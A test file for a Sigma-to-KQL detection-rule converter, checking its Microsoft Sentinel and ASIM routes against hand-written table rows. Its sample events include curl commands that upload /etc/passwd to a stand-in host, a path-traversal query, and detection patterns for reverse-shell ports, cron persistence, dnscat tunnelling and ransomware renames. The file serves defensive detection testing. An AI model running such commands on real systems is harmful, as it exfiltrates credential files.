/**
 * The Sentinel and ASIM routes beyond Windows event logs (src/pipelines/builtin/sentinel-sources.ts,
 * sentinel-asim.ts): one rule per route, its query kept as a golden file
 * (golden/sentinel-sources/<case>.kql) and checked by Microsoft's parser, and evaluator
 * cross-checks: each case pairs Sigma-named events with the row the table holds for the same event
 * (written by hand from Microsoft's table reference, not derived from the pipeline's field map),
 * and the emitted query run on the row (kql-interpreter.ts) must agree with Sigil's evaluator on
 * the event. Every case has events on both sides of the verdict.
 *
 * The interpreter reads `where` only: the query's `extend` lines are evaluated here (parse_json,
 * and the DeviceInfo lookup that scopes Device* rows to an OS platform, against a small DeviceInfo).
 */
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { convertDocument } from '../../../src/convert.js';
import { tableColumns } from '../../../src/backends/kql/schema.js';
import { compileRule } from '../../../src/eval/compile.js';
import { parse } from '../../../src/parser/index.js';
import { runKql, type Row } from './kql-interpreter.js';
import { kqlErrors } from './kusto.js';
import { expectGolden } from '../../helpers/golden.js';
import { parse as parseYaml } from 'yaml';
import type { SigmaRule } from '../../../src/ast/types.js';
import { getBackend } from '../../../src/backends/index.js';
import { loadPipelineSpec } from '../../../src/pipelines/index.js';

const HERE = path.dirname(new URL(import.meta.url).pathname);

/** DeviceInfo: DeviceId → OSPlatform, for the OS-scoping lookup. */
const DEVICE_INFO: Record<string, string> = { 'dev-linux': 'Linux', 'dev-mac': 'macOS', 'dev-win': 'Windows10' };

interface Pair {
  /** The event as Sigma names it (what the evaluator reads). */
  event: Record<string, unknown>;
  /** The same event as a row of the routed table. */
  row: Row;
  /** The row's table when the route reads several (a union): default, the case's table. */
  table?: string;
}

interface Case {
  name: string;
  pipeline: 'sentinel' | 'sentinel-asim';
  table: string;
  /** The query's first line when it is not the table (a union of tables). */
  source?: string;
  logsource: string;
  detection: string;
  pairs: Pair[];
}

const ruleText = (c: Case): string =>
  `title: ${c.name}\nid: 5f0e8a55-0000-4000-8000-000000000000\nstatus: test\nlogsource:\n${c.logsource}\ndetection:\n${c.detection}\nlevel: low\n`;

/** Applies the query's `extend` lines to the row and returns the rest of the query. */
function applyExtends(query: string, row: Row, types: Map<string, string>): string {
  const kept: string[] = [];
  for (const line of query.split('\n')) {
    const m = /^\| extend (\w+) = (.*)$/.exec(line);
    if (!m) {
      kept.push(line);
      continue;
    }
    const [, name, expr] = m as unknown as [string, string, string];
    const json = /^parse_json\((\w+)\)$/.exec(expr);
    const os =
      /^iff\(DeviceId in \(\(DeviceInfo \| where OSPlatform == "(\w+)" \| distinct DeviceId\)\), "\w+", ""\)$/.exec(
        expr,
      );
    if (json) {
      const text = row[json[1]!];
      row[name] = typeof text === 'string' && text !== '' ? JSON.parse(text) : null;
      types.set(name, 'dynamic');
    } else if (os) {
      row[name] = DEVICE_INFO[String(row['DeviceId'])] === os[1] ? os[1] : '';
      types.set(name, 'string');
    } else if (expr === 'iff(isempty(RegistryValue), RegistryKey, strcat(RegistryKey, @"\\", RegistryValue))') {
      const key = String(row['RegistryKey'] ?? '');
      const value = String(row['RegistryValue'] ?? '');
      row[name] = value === '' ? key : `${key}\\${value}`;
      types.set(name, 'string');
    } else throw new Error(`extend not modelled: ${line}`);
  }
  return kept.join('\n');
}

const linuxProc = (platform: 'linux' | 'macos', device: string): Case => ({
  name: `${platform} process_creation`,
  pipeline: 'sentinel',
  table: 'DeviceProcessEvents',
  logsource: `  product: ${platform}\n  category: process_creation`,
  detection: `  sel:\n    Image|endswith: '/curl'\n    CommandLine|contains: ' -T '\n  filter:\n    ParentImage: '/usr/bin/apt'\n  condition: sel and not filter`,
  pairs: [
    {
      event: { Image: '/usr/bin/curl', CommandLine: 'curl -T /etc/passwd http://x', ParentImage: '/bin/bash' },
      row: {
        DeviceId: device,
        FolderPath: '/usr/bin/curl',
        ProcessCommandLine: 'curl -T /etc/passwd http://x',
        InitiatingProcessFolderPath: '/bin/bash',
      },
    },
    {
      event: { Image: '/usr/bin/curl', CommandLine: 'curl -T a b', ParentImage: '/usr/bin/apt' },
      row: {
        DeviceId: device,
        FolderPath: '/usr/bin/curl',
        ProcessCommandLine: 'curl -T a b',
        InitiatingProcessFolderPath: '/usr/bin/apt',
      },
    },
    {
      event: { Image: '/usr/bin/wget', CommandLine: 'wget -T 1 x' },
      row: { DeviceId: device, FolderPath: '/usr/bin/wget', ProcessCommandLine: 'wget -T 1 x' },
    },
  ],
});

const CASES: Case[] = [
  linuxProc('linux', 'dev-linux'),
  linuxProc('macos', 'dev-mac'),
  {
    name: 'linux file_event',
    pipeline: 'sentinel',
    table: 'DeviceFileEvents',
    logsource: '  product: linux\n  category: file_event',
    detection: `  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel`,
    pairs: [
      {
        event: { TargetFilename: '/etc/cron.d/evil', Image: '/bin/cp' },
        row: {
          DeviceId: 'dev-linux',
          ActionType: 'FileCreated',
          FolderPath: '/etc/cron.d/evil',
          InitiatingProcessFolderPath: '/bin/cp',
        },
      },
      {
        event: { TargetFilename: '/tmp/x' },
        row: { DeviceId: 'dev-linux', ActionType: 'FileCreated', FolderPath: '/tmp/x' },
      },
    ],
  },
  {
    name: 'linux network_connection',
    pipeline: 'sentinel',
    table: 'DeviceNetworkEvents',
    logsource: '  product: linux\n  category: network_connection',
    detection: `  sel:\n    Initiated: 'true'\n    DestinationPort: 4444\n  condition: sel`,
    pairs: [
      {
        event: { Initiated: 'true', DestinationPort: 4444, DestinationIp: '10.0.0.1' },
        row: { DeviceId: 'dev-linux', ActionType: 'ConnectionSuccess', RemotePort: 4444, RemoteIP: '10.0.0.1' },
      },
      {
        event: { Initiated: 'false', DestinationPort: 4444 },
        row: { DeviceId: 'dev-linux', ActionType: 'InboundConnectionAccepted', RemotePort: 4444 },
      },
      {
        event: { Initiated: 'true', DestinationPort: 443 },
        row: { DeviceId: 'dev-linux', ActionType: 'ConnectionSuccess', RemotePort: 443 },
      },
    ],
  },
  {
    name: 'linux sshd',
    pipeline: 'sentinel',
    table: 'Syslog',
    logsource: '  product: linux\n  service: sshd',
    detection: `  keywords:\n    - 'unexpected internal error'\n  condition: keywords`,
    pairs: [
      {
        event: { ProcessName: 'sshd', SyslogMessage: 'fatal: unexpected internal error' },
        row: { ProcessName: 'sshd', SyslogMessage: 'fatal: unexpected internal error' },
      },
      {
        event: { ProcessName: 'sshd', SyslogMessage: 'Accepted publickey' },
        row: { ProcessName: 'sshd', SyslogMessage: 'Accepted publickey' },
      },
    ],
  },
  {
    name: 'aws cloudtrail',
    pipeline: 'sentinel',
    table: 'AWSCloudTrail',
    logsource: '  product: aws\n  service: cloudtrail',
    detection: `  sel:\n    eventSource: 'rds.amazonaws.com'\n    eventName: 'ModifyDBInstance'\n    requestParameters.publiclyAccessible: 'true'\n    userIdentity.type: 'IAMUser'\n  condition: sel`,
    pairs: [
      {
        event: {
          eventSource: 'rds.amazonaws.com',
          eventName: 'ModifyDBInstance',
          requestParameters: { publiclyAccessible: true },
          userIdentity: { type: 'IAMUser' },
        },
        row: {
          EventSource: 'rds.amazonaws.com',
          EventName: 'ModifyDBInstance',
          RequestParameters: '{"publiclyAccessible":true}',
          UserIdentityType: 'IAMUser',
        },
      },
      {
        event: {
          eventSource: 'rds.amazonaws.com',
          eventName: 'ModifyDBInstance',
          requestParameters: { publiclyAccessible: false },
          userIdentity: { type: 'IAMUser' },
        },
        row: {
          EventSource: 'rds.amazonaws.com',
          EventName: 'ModifyDBInstance',
          RequestParameters: '{"publiclyAccessible":false}',
          UserIdentityType: 'IAMUser',
        },
      },
    ],
  },
  {
    name: 'azure signinlogs',
    pipeline: 'sentinel',
    table: 'SigninLogs',
    // Non-interactive sign-ins too; their DeviceDetail is JSON text, parsed in the union's leg.
    source:
      'union isfuzzy=true SigninLogs, (AADNonInteractiveUserSignInLogs | extend DeviceDetail = todynamic(DeviceDetail))',
    logsource: '  product: azure\n  service: signinlogs',
    detection: `  sel:\n    ResultType: 50126\n    DeviceDetail.trusttype: 'Azure AD joined'\n  condition: sel`,
    pairs: [
      {
        event: { ResultType: '50126', DeviceDetail: { trusttype: 'Azure AD joined' } },
        row: { ResultType: '50126', DeviceDetail: { trustType: 'Azure AD joined' } },
      },
      {
        event: { ResultType: '0', DeviceDetail: { trusttype: 'Azure AD joined' } },
        row: { ResultType: '0', DeviceDetail: { trustType: 'Azure AD joined' } },
      },
      {
        event: { ResultType: '50126', DeviceDetail: { trusttype: 'Azure AD joined' } },
        table: 'AADNonInteractiveUserSignInLogs',
        row: { ResultType: '50126', DeviceDetail: '{"deviceId":"","trustType":"Azure AD joined"}' },
      },
      {
        event: { ResultType: '50126', DeviceDetail: { trusttype: 'Azure AD registered' } },
        table: 'AADNonInteractiveUserSignInLogs',
        row: { ResultType: '50126', DeviceDetail: '{"trustType":"Azure AD registered"}' },
      },
      {
        event: { ResultType: '50126' },
        table: 'AADNonInteractiveUserSignInLogs',
        row: { ResultType: '50126', DeviceDetail: '' },
      },
    ],
  },
  {
    name: 'azure auditlogs',
    pipeline: 'sentinel',
    table: 'AuditLogs',
    logsource: '  product: azure\n  service: auditlogs',
    detection: `  sel:\n    properties.message: 'Add member to role'\n    Status: 'Success'\n  condition: sel`,
    pairs: [
      {
        event: { properties: { message: 'Add member to role' }, Status: 'Success' },
        row: { ActivityDisplayName: 'Add member to role', Result: 'success' },
      },
      {
        event: { properties: { message: 'Add member to role' }, Status: 'failure' },
        row: { ActivityDisplayName: 'Add member to role', Result: 'failure' },
      },
    ],
  },
  {
    name: 'azure activitylogs',
    pipeline: 'sentinel',
    table: 'AzureActivity',
    logsource: '  product: azure\n  service: activitylogs',
    detection: `  sel:\n    operationName: 'MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE'\n  condition: sel`,
    pairs: [
      {
        event: { operationName: 'MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE' },
        row: {
          OperationNameValue: 'MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE',
          OperationName: 'Delete Firewall Policy',
        },
      },
      {
        event: { operationName: 'MICROSOFT.NETWORK/FIREWALLPOLICIES/WRITE' },
        row: { OperationNameValue: 'MICROSOFT.NETWORK/FIREWALLPOLICIES/WRITE' },
      },
    ],
  },
  {
    name: 'm365 audit',
    pipeline: 'sentinel',
    table: 'OfficeActivity',
    logsource: '  product: m365\n  service: audit',
    detection: `  sel:\n    Operation: 'New-InboxRule'\n    Workload: 'Exchange'\n  condition: sel`,
    pairs: [
      {
        event: { Operation: 'New-InboxRule', Workload: 'Exchange' },
        row: { Operation: 'New-InboxRule', OfficeWorkload: 'Exchange' },
      },
      {
        event: { Operation: 'Set-Mailbox', Workload: 'Exchange' },
        row: { Operation: 'Set-Mailbox', OfficeWorkload: 'Exchange' },
      },
    ],
  },
  {
    name: 'okta',
    pipeline: 'sentinel',
    table: 'Okta_CL',
    logsource: '  product: okta\n  service: okta',
    detection: `  sel:\n    eventType: 'user.mfa.factor.deactivate'\n    outcome.result: 'SUCCESS'\n  condition: sel`,
    pairs: [
      {
        event: { eventType: 'user.mfa.factor.deactivate', outcome: { result: 'SUCCESS' } },
        row: { eventType_s: 'user.mfa.factor.deactivate', outcome_result_s: 'SUCCESS' },
      },
      {
        event: { eventType: 'user.mfa.factor.deactivate', outcome: { result: 'FAILURE' } },
        row: { eventType_s: 'user.mfa.factor.deactivate', outcome_result_s: 'FAILURE' },
      },
    ],
  },
  {
    name: 'gcp audit',
    pipeline: 'sentinel',
    table: 'GCPAuditLogs',
    logsource: '  product: gcp\n  service: gcp.audit',
    detection: `  sel:\n    gcp.audit.method_name|endswith: '.storage.buckets.delete'\n  condition: sel`,
    pairs: [
      {
        event: { gcp: { audit: { method_name: 'google.storage.buckets.delete' } } },
        row: { MethodName: 'google.storage.buckets.delete' },
      },
      {
        event: { gcp: { audit: { method_name: 'google.storage.buckets.create' } } },
        row: { MethodName: 'google.storage.buckets.create' },
      },
    ],
  },
  {
    name: 'proxy',
    pipeline: 'sentinel',
    table: 'CommonSecurityLog',
    logsource: '  category: proxy',
    detection: `  sel:\n    c-useragent|contains: 'python-requests'\n    cs-method: 'POST'\n    c-uri|endswith: '/upload.php'\n  condition: sel`,
    pairs: [
      {
        event: { 'c-useragent': 'python-requests/2.31', 'cs-method': 'POST', 'c-uri': 'http://a.example/upload.php' },
        row: {
          RequestClientApplication: 'python-requests/2.31',
          RequestMethod: 'POST',
          RequestURL: 'http://a.example/upload.php',
        },
      },
      {
        event: { 'c-useragent': 'python-requests/2.31', 'cs-method': 'GET', 'c-uri': 'http://a.example/upload.php' },
        row: {
          RequestClientApplication: 'python-requests/2.31',
          RequestMethod: 'GET',
          RequestURL: 'http://a.example/upload.php',
        },
      },
    ],
  },
  {
    name: 'firewall',
    pipeline: 'sentinel',
    table: 'CommonSecurityLog',
    logsource: '  category: firewall',
    detection: `  sel:\n    dst_port: 3389\n    src_ip|cidr: '10.0.0.0/8'\n  condition: sel`,
    pairs: [
      { event: { dst_port: 3389, src_ip: '10.1.2.3' }, row: { DestinationPort: 3389, SourceIP: '10.1.2.3' } },
      { event: { dst_port: 3389, src_ip: '192.168.0.1' }, row: { DestinationPort: 3389, SourceIP: '192.168.0.1' } },
      { event: { dst_port: 22, src_ip: '10.1.2.3' }, row: { DestinationPort: 22, SourceIP: '10.1.2.3' } },
    ],
  },
  {
    name: 'webserver',
    pipeline: 'sentinel',
    table: 'W3CIISLog',
    logsource: '  category: webserver',
    detection: `  sel:\n    cs-method: 'GET'\n    cs-uri-query|contains: '../'\n    sc-status: 200\n  condition: sel`,
    pairs: [
      {
        event: { 'cs-method': 'GET', 'cs-uri-query': 'file=../../etc/passwd', 'sc-status': 200 },
        row: { csMethod: 'GET', csUriQuery: 'file=../../etc/passwd', scStatus: '200' },
      },
      {
        event: { 'cs-method': 'GET', 'cs-uri-query': 'file=../../etc/passwd', 'sc-status': 404 },
        row: { csMethod: 'GET', csUriQuery: 'file=../../etc/passwd', scStatus: '404' },
      },
    ],
  },
  {
    name: 'dns server',
    pipeline: 'sentinel',
    table: 'DnsEvents',
    logsource: '  category: dns',
    detection: `  sel:\n    query|endswith: '.onion.to'\n  condition: sel`,
    pairs: [
      {
        event: { query: 'abc.onion.to' },
        row: { SubType: 'LookupQuery', Name: 'abc.onion.to' },
      },
      { event: { query: 'abc.example.com' }, row: { SubType: 'LookupQuery', Name: 'abc.example.com' } },
    ],
  },
  {
    name: 'wmi provider field',
    pipeline: 'sentinel',
    table: 'WindowsEvent',
    logsource: '  product: windows\n  service: wmi',
    detection: `  sel:\n    EventID: 5861\n  filter:\n    Provider: 'SCM Event Provider'\n  condition: sel and not filter`,
    pairs: [
      {
        event: { EventID: 5861, Provider: 'SCM Event Provider' },
        row: {
          Channel: 'Microsoft-Windows-WMI-Activity/Operational',
          Provider: 'Microsoft-Windows-WMI-Activity',
          EventID: 5861,
          EventData: { Provider: 'SCM Event Provider' },
        },
      },
      {
        event: { EventID: 5861, Provider: 'Evil Provider' },
        row: {
          Channel: 'Microsoft-Windows-WMI-Activity/Operational',
          Provider: 'Microsoft-Windows-WMI-Activity',
          EventID: 5861,
          EventData: { Provider: 'Evil Provider' },
        },
      },
    ],
  },
  {
    name: 'keyword-named event data field',
    pipeline: 'sentinel',
    table: 'WindowsEvent',
    logsource: '  product: windows\n  service: application',
    detection: `  sel:\n    title|contains: 'evil'\n    where: 'x'\n  condition: sel`,
    pairs: [
      {
        event: { title: 'an evil thing', where: 'x' },
        row: { Channel: 'Application', EventData: { title: 'an evil thing', where: 'x' } },
      },
      {
        event: { title: 'a fine thing', where: 'x' },
        row: { Channel: 'Application', EventData: { title: 'a fine thing', where: 'x' } },
      },
    ],
  },
  {
    name: 'asim registry_set',
    pipeline: 'sentinel-asim',
    table: 'imRegistry',
    logsource: '  product: windows\n  category: registry_set',
    detection: `  sel:\n    TargetObject|endswith: '\\Run\\evil'\n  condition: sel`,
    pairs: [
      {
        event: { TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil' },
        row: {
          EventType: 'RegistryValueSet',
          RegistryKey: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          RegistryValue: 'evil',
        },
      },
      {
        event: { TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\fine' },
        row: {
          EventType: 'RegistryValueSet',
          RegistryKey: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          RegistryValue: 'fine',
        },
      },
    ],
  },
  {
    name: 'asim file_rename',
    pipeline: 'sentinel-asim',
    table: 'imFileEvent',
    logsource: '  product: windows\n  category: file_rename',
    detection: `  sel:\n    SourceFilename|endswith: '.docx'\n    TargetFilename|endswith: '.docx.locked'\n  condition: sel`,
    pairs: [
      {
        event: { SourceFilename: 'C:\\a\\b.docx', TargetFilename: 'C:\\a\\b.docx.locked' },
        row: { EventType: 'FileRenamed', SrcFilePath: 'C:\\a\\b.docx', TargetFilePath: 'C:\\a\\b.docx.locked' },
      },
      {
        event: { SourceFilename: 'C:\\a\\b.txt', TargetFilename: 'C:\\a\\b.docx.locked' },
        row: { EventType: 'FileRenamed', SrcFilePath: 'C:\\a\\b.txt', TargetFilePath: 'C:\\a\\b.docx.locked' },
      },
    ],
  },
  {
    name: 'asim dns_query',
    pipeline: 'sentinel-asim',
    table: 'imDns',
    logsource: '  product: windows\n  category: dns_query',
    detection: `  sel:\n    QueryName|endswith: '.ngrok.io'\n  condition: sel`,
    pairs: [
      { event: { QueryName: 'a.ngrok.io' }, row: { EventProduct: 'Sysmon', DnsQuery: 'a.ngrok.io' } },
      { event: { QueryName: 'a.example.org' }, row: { EventProduct: 'Sysmon', DnsQuery: 'a.example.org' } },
    ],
  },
  {
    name: 'asim dns',
    pipeline: 'sentinel-asim',
    table: 'imDns',
    logsource: '  category: dns',
    detection: `  sel:\n    query|contains: 'dnscat'\n    record_type: 'TXT'\n  condition: sel`,
    pairs: [
      {
        event: { query: 'x.dnscat.example', record_type: 'TXT' },
        row: { DnsQuery: 'x.dnscat.example', DnsQueryTypeName: 'TXT' },
      },
      {
        event: { query: 'x.dnscat.example', record_type: 'A' },
        row: { DnsQuery: 'x.dnscat.example', DnsQueryTypeName: 'A' },
      },
    ],
  },
  {
    name: 'asim proxy',
    pipeline: 'sentinel-asim',
    table: 'imWebSession',
    logsource: '  category: proxy',
    detection: `  sel:\n    c-uri|contains: '/wp-admin/'\n    cs-method: 'POST'\n  condition: sel`,
    pairs: [
      {
        event: { 'c-uri': 'http://a/wp-admin/x', 'cs-method': 'POST' },
        row: { Url: 'http://a/wp-admin/x', HttpRequestMethod: 'POST' },
      },
      {
        event: { 'c-uri': 'http://a/index', 'cs-method': 'POST' },
        row: { Url: 'http://a/index', HttpRequestMethod: 'POST' },
      },
    ],
  },
  {
    name: 'asim firewall',
    pipeline: 'sentinel-asim',
    table: 'imNetworkSession',
    logsource: '  category: firewall',
    detection: `  sel:\n    dst_port: 445\n    action: 'allow'\n  condition: sel`,
    pairs: [
      { event: { dst_port: 445, action: 'allow' }, row: { DstPortNumber: 445, DvcAction: 'Allow' } },
      { event: { dst_port: 445, action: 'deny' }, row: { DstPortNumber: 445, DvcAction: 'Deny' } },
    ],
  },
  {
    name: 'asim linux process_creation',
    pipeline: 'sentinel-asim',
    table: 'imProcessCreate',
    logsource: '  product: linux\n  category: process_creation',
    detection: `  sel:\n    Image|endswith: '/curl'\n    CommandLine|contains: ' -d @'\n    ParentImage|endswith: '/bash'\n  condition: sel`,
    pairs: [
      {
        event: { Image: '/usr/bin/curl', CommandLine: 'curl -d @/etc/passwd http://x', ParentImage: '/bin/bash' },
        row: {
          DvcOs: 'Linux',
          TargetProcessName: '/usr/bin/curl',
          TargetProcessCommandLine: 'curl -d @/etc/passwd http://x',
          ActingProcessName: '/bin/bash',
        },
      },
      {
        event: { Image: '/usr/bin/curl', CommandLine: 'curl http://x', ParentImage: '/bin/bash' },
        row: {
          DvcOs: 'Linux',
          TargetProcessName: '/usr/bin/curl',
          TargetProcessCommandLine: 'curl http://x',
          ActingProcessName: '/bin/bash',
        },
      },
    ],
  },
  {
    name: 'asim linux file_event',
    pipeline: 'sentinel-asim',
    table: 'imFileEvent',
    logsource: '  product: linux\n  category: file_event',
    detection: `  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel`,
    pairs: [
      {
        event: { TargetFilename: '/etc/cron.d/evil' },
        row: { EventType: 'FileCreated', DvcOs: 'Linux', TargetFilePath: '/etc/cron.d/evil' },
      },
      {
        event: { TargetFilename: '/tmp/cron.d/evil' },
        row: { EventType: 'FileCreated', DvcOs: 'Linux', TargetFilePath: '/tmp/cron.d/evil' },
      },
    ],
  },
  {
    name: 'asim azure signinlogs',
    pipeline: 'sentinel-asim',
    table: 'imAuthentication',
    logsource: '  product: azure\n  service: signinlogs',
    detection: `  sel:\n    userAgent|contains: 'azurehound'\n    ResultType: 0\n  condition: sel`,
    pairs: [
      {
        event: { userAgent: 'azurehound/v2.1', ResultType: '0' },
        row: { Type: 'SigninLogs', HttpUserAgent: 'azurehound/v2.1', EventResult: 'Success' },
      },
      {
        event: { userAgent: 'azurehound/v2.1', ResultType: '50126' },
        row: { Type: 'AADNonInteractiveUserSignInLogs', HttpUserAgent: 'azurehound/v2.1', EventResult: 'Failure' },
      },
      {
        event: { userAgent: 'Mozilla/5.0', ResultType: '0' },
        row: { Type: 'AADNonInteractiveUserSignInLogs', HttpUserAgent: 'Mozilla/5.0', EventResult: 'Success' },
      },
    ],
  },
  {
    name: 'asim azure auditlogs',
    pipeline: 'sentinel-asim',
    table: 'imAuditEvent',
    logsource: '  product: azure\n  service: auditlogs',
    detection: `  sel:\n    properties.message: 'Invite external user'\n    Status: 'failure'\n  condition: sel`,
    pairs: [
      {
        event: { properties: { message: 'Invite external user' }, Status: 'failure' },
        row: { Type: 'AuditLogs', Operation: 'Invite external user', EventResult: 'Failure' },
      },
      {
        event: { properties: { message: 'Invite external user' }, Status: 'success' },
        row: { Type: 'AuditLogs', Operation: 'Invite external user', EventResult: 'Success' },
      },
    ],
  },
  {
    name: 'asim azure activitylogs',
    pipeline: 'sentinel-asim',
    table: 'imAuditEvent',
    logsource: '  product: azure\n  service: activitylogs',
    detection: `  sel:\n    CategoryValue: 'Administrative'\n    operationName|endswith: '/VAULTS/DELETE'\n  condition: sel`,
    pairs: [
      {
        event: { CategoryValue: 'Administrative', operationName: 'MICROSOFT.KEYVAULT/VAULTS/DELETE' },
        row: {
          Type: 'AzureActivity',
          EventOriginalType: 'Administrative',
          Operation: 'MICROSOFT.KEYVAULT/VAULTS/DELETE',
        },
      },
      {
        event: { CategoryValue: 'Administrative', operationName: 'MICROSOFT.KEYVAULT/VAULTS/WRITE' },
        row: {
          Type: 'AzureActivity',
          EventOriginalType: 'Administrative',
          Operation: 'MICROSOFT.KEYVAULT/VAULTS/WRITE',
        },
      },
    ],
  },
];

describe('Sentinel source routes: golden query, Kusto binding, evaluator cross-check', () => {
  for (const c of CASES) {
    it(c.name, (ctx) => {
      const text = ruleText(c);
      const res = parse(text, { file: `${c.name}.yml` });
      const doc = res.documents[0]!.document!;
      expect(res.documents[0]!.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
      const r = convertDocument(doc, { target: 'kql', pipelines: [c.pipeline] });
      if (!r.ok) throw new Error(JSON.stringify(r.errors));
      const query = r.queries[0]!;
      expect(kqlErrors(query, 'sentinel'), query).toEqual([]);
      expect(query.split('\n')[0]).toBe(c.source ?? c.table);
      expectGolden(
        ctx,
        path.join(HERE, 'golden/sentinel-sources', `${c.name.replace(/[^a-z0-9]+/gi, '-')}.kql`),
        query + '\n',
      );
      if (doc.kind !== 'rule') throw new Error('not a rule');
      const matcher = compileRule(doc);
      const verdicts: boolean[] = [];
      for (const p of c.pairs) {
        const want = matcher.matches(p.event);
        const row = structuredClone(p.row);
        const table = p.table ?? c.table;
        const types = new Map(tableColumns(table, 'sentinel')!);
        const where = applyExtends(query, row, types);
        const got = runKql(where, row, { table, columns: types });
        expect(got, `${JSON.stringify(p.event)} → ${JSON.stringify(row)}\n${query}`).toBe(want);
        verdicts.push(want);
      }
      expect(verdicts, 'events on both sides of the verdict').toContain(true);
      expect(verdicts).toContain(false);
    });
  }

  it('Device* routes read only the devices of their platform', () => {
    const c = CASES[0]!;
    const doc = parse(ruleText(c), { file: 'x.yml' }).documents[0]!.document!;
    const r = convertDocument(doc, { target: 'kql', pipelines: ['sentinel'] });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    const query = r.queries[0]!;
    for (const device of ['dev-mac', 'dev-win']) {
      const row: Row = { ...c.pairs[0]!.row, DeviceId: device };
      const types = new Map(tableColumns(c.table, 'sentinel')!);
      expect(runKql(applyExtends(query, row, types), row, { table: c.table, columns: types })).toBe(false);
    }
  });
});

/** A low-level rule of one log source whose detection is `sel` (given with its indentation). */
function ruleWith(logsource: string, detection: string, extra = ''): SigmaRule {
  const doc = parse(
    `title: t\nid: 5f0e8a55-0000-4000-8000-000000000001\nstatus: test\nlogsource:\n${logsource}\ndetection:\n${detection}\n  condition: sel\nlevel: low\n${extra}`,
    { file: 'rule.yml' },
  ).documents[0]!.document!;
  if (doc.kind !== 'rule') throw new Error('not a rule');
  return doc;
}

describe('a route over a union of tables (Route.union): Entra ID sign-ins', () => {
  const signin = (detection: string): SigmaRule =>
    ruleWith('  product: azure\n  service: signinlogs', detection, 'tags:\n  - attack.initial-access\n');

  it('the Sentinel rule requires both tables of the Entra ID connector and maps entities both tables return', () => {
    const rule = signin(`  sel:\n    ResultType: 50053`);
    const r = convertDocument(rule, { target: 'kql', pipelines: ['sentinel'] });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    expect(r.tables).toEqual(['SigninLogs', 'AADNonInteractiveUserSignInLogs']);
    const format = getBackend('kql')!.formats.find((f) => f.name === 'sentinel-rule')!;
    const doc = parseYaml(format.render(r, rule, {}).text) as Record<string, unknown>;
    expect(doc['requiredDataConnectors']).toEqual([
      { connectorId: 'AzureActiveDirectory', dataTypes: ['SigninLogs'] },
      { connectorId: 'AzureActiveDirectory', dataTypes: ['AADNonInteractiveUserSignInLogs'] },
    ]);
    const columns = (doc['entityMappings'] as { fieldMappings: { columnName: string }[] }[]).flatMap((e) =>
      e.fieldMappings.map((f) => f.columnName),
    );
    expect(columns).toContain('UserPrincipalName');
    for (const table of r.tables)
      for (const c of columns) expect(tableColumns(table, 'sentinel')!.has(c), c).toBe(true);
    expect(kqlErrors(doc['query'] as string, 'sentinel')).toEqual([]);
  });

  it('a column only one of the tables has is C002 naming that table', () => {
    const r = convertDocument(signin(`  sel:\n    RiskLevel: high`), { target: 'kql', pipelines: ['sentinel'] });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors[0]!.code).toBe('C002');
    expect(r.errors[0]!.message).toContain('AADNonInteractiveUserSignInLogs');
  });

  it('a column typed in a way no exact conversion unites is C044', () => {
    // Reversed: DeviceDetail is text in the route's table and dynamic in the other one.
    const text = `name: reversed\ndescription: d\ntargets: [kql]\nroutes:\n  - logsource: { product: azure, service: signinlogs }\n    table: AADNonInteractiveUserSignInLogs\n    union: [SigninLogs]\ntransformations:\n  - type: set_state\n    state: { product: sentinel }\n`;
    const { spec } = loadPipelineSpec(text, 'reversed.yml');
    const r = convertDocument(signin(`  sel:\n    DeviceDetail: x`), { target: 'kql', pipelines: [spec!] });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors[0]!.code).toBe('C044');
    expect(r.errors[0]!.message).toBe(
      "column 'DeviceDetail' is string in AADNonInteractiveUserSignInLogs but dynamic in SigninLogs",
    );
  });
});

describe('sentinel-asim: routes read only their source, and refuse what ASIM rows cannot decide', () => {
  const convertRule = (logsource: string, detection: string) => {
    const doc = parse(
      `title: t\nid: 5f0e8a55-0000-4000-8000-000000000002\nstatus: test\nlogsource:\n${logsource}\ndetection:\n${detection}\nlevel: low\n`,
      { file: 'x.yml' },
    ).documents[0]!.document!;
    return convertDocument(doc, { target: 'kql', pipelines: ['sentinel-asim'] });
  };
  const survives = (query: string, table: string, row: Row): boolean =>
    runKql(query, row, { table, columns: new Map(tableColumns(table, 'sentinel')!) });

  it('Linux rows are those whose parser names the OS Linux; cloud rows those of the source table', () => {
    const byName = (name: string): Case => CASES.find((c) => c.name === name)!;
    for (const [name, key, others] of [
      ['asim linux process_creation', 'DvcOs', ['Windows', '']],
      ['asim linux file_event', 'DvcOs', ['Windows', '']],
      ['asim azure signinlogs', 'Type', ['AADServicePrincipalSignInLogs', 'OktaV2_CL']],
      ['asim azure auditlogs', 'Type', ['AzureActivity', 'GitHubAuditLogPolling_CL']],
      ['asim azure activitylogs', 'Type', ['AuditLogs', 'AWSCloudTrail']],
    ] as const) {
      const c = byName(name);
      const r = convertRule(c.logsource, c.detection);
      if (!r.ok) throw new Error(JSON.stringify(r.errors));
      const matching = c.pairs.find((p) => compileRuleOf(c).matches(p.event))!.row;
      expect(survives(r.queries[0]!, c.table, matching), name).toBe(true);
      for (const other of others)
        expect(survives(r.queries[0]!, c.table, { ...matching, [key]: other }), `${name}: ${key} ${other}`).toBe(false);
    }
  });

  it('a keyword search on an ASIM route is C004: the row is not the event', () => {
    const r = convertRule('  category: webserver', `  keywords:\n    - '<script'\n  condition: keywords`);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors[0]!.code).toBe('C004');
    expect(r.errors[0]!.message).toContain('keyword search');
    // An unrouted log source stays C001 (no route), not the keyword refusal.
    const unrouted = convertRule(
      '  product: linux\n  service: auditd',
      `  keywords:\n    - 'x'\n  condition: keywords`,
    );
